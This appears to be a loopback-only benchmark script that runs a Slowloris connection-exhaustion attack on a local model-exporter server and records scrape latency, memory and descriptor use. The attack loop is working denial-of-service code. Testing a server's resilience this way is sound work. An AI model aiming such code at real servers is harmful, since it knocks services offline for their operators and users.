#!/usr/bin/env python3
"""Slowloris against a running model-exporter, with its cost measured.

Opens N connections to the web server (and optionally to a tcp:// event
listener); half send nothing, half send a request head one byte per
second and never finish it. Connections the server closes are reopened
(a continuous attack). Meanwhile it scrapes /metrics once a second and
samples the exporter's RSS and open descriptors from /proc.

    bench/slowloris.py --web 127.0.0.1:9877 --pid $(pidof model-exporter) \
        --connections 2000 --seconds 60

Prints one summary line per quantity; loopback only, bounded in time.
"""

import argparse
import os
import socket
import statistics
import time


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def fd_count(pid):
    return len(os.listdir(f"/proc/{pid}/fd"))


def scrape(host, port, path="/metrics", timeout=10.0):
    """One GET with Connection: close; (status or None, seconds)."""
    start = time.monotonic()
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.sendall(
                f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
            )
            chunks = []
            while True:
                b = s.recv(65536)
                if not b:
                    break
                chunks.append(b)
        raw = b"".join(chunks)
        status = int(raw.split(b" ", 2)[1]) if raw else None
    except (OSError, ValueError, IndexError):
        status = None
    return status, time.monotonic() - start


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--web", required=True, help="HOST:PORT of the web server")
    ap.add_argument("--pid", type=int, required=True, help="the exporter's pid")
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--seconds", type=float, default=60)
    args = ap.parse_args()
    host, port = args.web.rsplit(":", 1)
    port = int(port)
    if host not in ("127.0.0.1", "localhost", "::1"):
        raise SystemExit("loopback targets only")
    head = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "

    conns = {}  # socket -> (index, bytes sent)
    opened = closed_by_server = 0

    def open_one(i):
        nonlocal opened
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return
        conns[s] = [i, 0]
        opened += 1

    for i in range(args.connections):
        open_one(i)

    latencies, failures = [], 0
    rss, fds = [], []
    start = time.monotonic()
    next_tick = start
    while time.monotonic() - start < args.seconds:
        now = time.monotonic()
        if now >= next_tick:
            next_tick += 1.0
            # One byte from every other connection; reopen closed ones.
            dead = []
            for s, st in conns.items():
                try:
                    if st[0] % 2 == 0:
                        s.send(head[st[1] : st[1] + 1] or b"a")
                        st[1] += 1
                    else:
                        # A silent connection: a closed one reads EOF.
                        if s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                            dead.append(s)
                except BlockingIOError:
                    pass
                except OSError:
                    dead.append(s)
            for s in dead:
                i = conns.pop(s)[0]
                s.close()
                closed_by_server += 1
                open_one(i)
            status, took = scrape(host, port)
            if status == 200:
                latencies.append(took)
            else:
                failures += 1
            try:
                rss.append(rss_kib(args.pid))
                fds.append(fd_count(args.pid))
            except OSError:
                pass
        time.sleep(0.05)
    for s in conns:
        s.close()

    def q(xs, p):
        xs = sorted(xs)
        return xs[min(len(xs) - 1, int(p * len(xs)))] if xs else float("nan")

    print(f"connections held open by the attacker: {len(conns)}; opened {opened}, "
          f"closed by the server {closed_by_server}")
    print(f"scrapes: {len(latencies)} answered 200, {failures} failed")
    if latencies:
        print(
            "scrape latency: median %.1f ms, p90 %.1f ms, max %.1f ms"
            % (
                statistics.median(latencies) * 1e3,
                q(latencies, 0.9) * 1e3,
                max(latencies) * 1e3,
            )
        )
    if rss:
        print(f"exporter RSS: max {max(rss) / 1024:.1f} MiB, last {rss[-1] / 1024:.1f} MiB")
        print(f"exporter open descriptors: max {max(fds)}, last {fds[-1]}")


if __name__ == "__main__":
    main()
